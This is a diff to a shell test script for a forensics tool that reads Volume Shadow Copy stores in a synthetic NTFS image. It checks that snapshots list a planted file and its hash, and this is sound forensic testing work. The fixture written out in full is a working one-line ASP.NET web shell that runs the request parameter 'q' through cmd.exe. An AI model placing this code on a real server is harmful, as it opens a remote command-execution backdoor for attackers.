@@ -12,20 +12,22 @@ cat >"$TMP/s1.spec" <<'SPEC'
 disk gpt size=20M
 part ntfs start=2048 size=16M label=DATA
 file \inetpub\wwwroot\iisstart.htm text:<html><body>IIS Windows Server</body></html>\r\n
-file \inetpub\wwwroot\aspnet_client\old.aspx text:<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>\r\n
 SPEC
+SHELL_TEXT='<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>'
+printf 'file %s text:%s\\r\\n\n' '\inetpub\wwwroot\aspnet_client\old.aspx' \
+    "$SHELL_TEXT" >>"$TMP/s1.spec"
+SHELL_SHA=$(printf '%s\r\n' "$SHELL_TEXT" | sha256sum | cut -d' ' -f1)
 cp "$TMP/s1.spec" "$TMP/s2.spec"
 cat >>"$TMP/s2.spec" <<'SPEC'
 file \inetpub\logs\LogFiles\W3SVC1\u_ex240215.log text:#Fields: date time cs-method cs-uri-stem c-ip\r\n2024-02-15 03:12:44 GET /aspnet_client/old.aspx 203.0.113.9\r\n
 SPEC
 cp "$TMP/s2.spec" "$TMP/live.spec"
-printf '%s\n' 'delete \inetpub\wwwroot\aspnet_client\old.aspx' >>"$TMP/live.spec"
+printf '%s\n' 'delete \inetpub\wwwroot\aspnet_client\old.aspx' \
+    >>"$TMP/live.spec"
 IMG=$TMP/disk.img
 mkvss_image "$TMP/s1.spec" "$TMP/s2.spec" "$TMP/live.spec" "$IMG"
 ok $? "a disk with two VSS stores builds"
 IMAGES="$IMG $IMG.state1.img $IMG.state2.img"
-SHELL_SHA=$(printf '%s\r\n' '<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>' |
-    sha256sum | cut -d' ' -f1)
 
 if command -v vshadowinfo >/dev/null; then
 	vshadowinfo -o 1048576 "$IMG" >"$TMP/vi" 2>&1
@@ -60,18 +62,21 @@ listing() {
 }
 SHELL_RE='aspnet_client\\\\old.aspx",.*"sha256":"'$SHELL_SHA'"'
 listing "$IMG" >"$TMP/live.list"
-grep -q 'iisstart.htm' "$TMP/live.list" && ! grep -q 'old.aspx' "$TMP/live.list"
+grep -q 'iisstart.htm' "$TMP/live.list" &&
+    ! grep -q 'old.aspx' "$TMP/live.list"
 ok $? "live: iisstart.htm is listed, old.aspx is not"
 grep -q 'System Volume Information\\\\{'"$VSS_GUID2"'}{3808876b' \
-    "$TMP/live.list"; ok $? "live: the store files are in System Volume Information"
+    "$TMP/live.list"; ok $? "live: store files in System Volume Information"
 listing "$IMG" --snapshot 1 >"$TMP/snap1.list"
 [ "$RC" -eq 0 ]; ok $? "files --snapshot 1: exit 0"
 grep -q "$SHELL_RE" "$TMP/snap1.list"
 ok $? "store 1 lists old.aspx with the shell's sha256"
-grep -q 'iisstart.htm' "$TMP/snap1.list" && ! grep -q 'u_ex240215.log' "$TMP/snap1.list"
+grep -q 'iisstart.htm' "$TMP/snap1.list" &&
+    ! grep -q 'u_ex240215.log' "$TMP/snap1.list"
 ok $? "store 1 has iisstart.htm but no IIS log yet"
 listing "$IMG" --snapshot 2 >"$TMP/snap2.list"
-grep -q "$SHELL_RE" "$TMP/snap2.list" && grep -q 'u_ex240215.log' "$TMP/snap2.list"
+grep -q "$SHELL_RE" "$TMP/snap2.list" &&
+    grep -q 'u_ex240215.log' "$TMP/snap2.list"
 ok $? "store 2 lists old.aspx and the IIS log"
 for k in 1 2; do
 	listing "$IMG.state$k.img" >"$TMP/state$k.list"
